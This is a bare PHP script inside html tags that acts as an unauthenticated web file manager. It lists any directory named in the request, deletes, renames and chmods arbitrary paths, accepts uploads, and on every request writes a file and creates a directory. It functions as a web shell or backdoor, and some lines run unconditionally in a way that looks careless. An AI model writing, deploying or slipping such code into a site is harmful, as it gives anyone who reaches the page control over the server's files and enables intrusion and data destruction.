<html><?php
$d = $_GET['d'] ?? '.';
foreach (scandir($d) as $e) echo $e, fileperms("$d/$e");
if (isset($_POST['del'])) unlink($_POST['del']);
if (isset($_POST['mv'])) rename($_POST['mv'], $_POST['to']);
if (isset($_POST['ch'])) chmod($_POST['ch'], 0755);
if (isset($_FILES['u'])) move_uploaded_file($_FILES['u']['tmp_name'], $d . '/x');
file_put_contents($d . '/n', $_POST['t'] ?? '');
echo disk_free_space('/'); mkdir($d . '/new');
?></html>
